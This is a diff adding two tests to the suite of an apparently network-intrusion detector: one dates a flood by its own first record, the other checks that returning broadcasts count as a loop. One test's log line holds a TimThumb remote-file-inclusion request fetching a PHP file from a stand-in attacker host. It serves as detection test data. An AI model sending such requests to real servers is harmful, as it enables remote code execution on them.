@@ -113,6 +113,19 @@ def test_exploit_request_and_flood_add_up_on_one_host() -> None:
     assert worst.score > 95
 
 
+def test_flood_is_dated_by_its_own_first_record_and_not_by_the_request_that_led_to_it() -> None:
+    bench = warm()
+    line = (
+        f'{OUTSIDE} - - [14/Nov/2023:22:13:20 +0000] "GET /a/timthumb.php?src=http://evil.example/x.php HTTP/1.1" 200 1'
+    )
+    message = json.dumps({"message": line, "fromhost-ip": "198.18.0.20"}).encode()
+    bench.feed(message, source=LOGS, origin="logs/0", kafka_ns=START)
+    verdicts = bench.run(flood("198.18.0.20", begin_ns=START + 2 * SECOND, seconds=2), until_ns=END)
+    said = of(verdicts, "198.18.0.20")
+    assert said[0].first_bad_ns == START
+    assert said[-1].first_bad_ns == START + 2 * SECOND + 10_000_000
+
+
 # 2: fragments nobody counts
 
 
@@ -261,6 +274,19 @@ def test_frames_that_a_loop_brings_back_are_a_loop() -> None:
     verdicts = warm().run(records, until_ns=END)
     assert accused(verdicts) == set()
     assert {verdict.finding for verdict in verdicts} == {Finding.LOOP}
+
+
+def test_host_whose_own_broadcasts_come_back_elsewhere_is_in_a_loop_and_not_its_cause() -> None:
+    everybody = {"dst": "255.255.255.255", "dst_mac": "ff:ff:ff:ff:ff:ff", "packets": 3000, "bytes": 3000 * 80}
+    records = [
+        record(START + tick * TICK, "198.18.0.7", src_mac=mac(7), in_if=port, **everybody)
+        for tick in range(20)
+        for port in (7, 8, 9)
+    ]
+    verdicts = warm().run(records, until_ns=END)
+    assert {verdict.finding for verdict in of(verdicts, "198.18.0.7")} == {Finding.LOOP}
+    alone = [one for one in records if one["in_if"] == 7]
+    assert accused(warm().run(alone, until_ns=END)) == {"198.18.0.7"}
 
 
 def test_router_that_speaks_for_others_is_a_gateway() -> None:
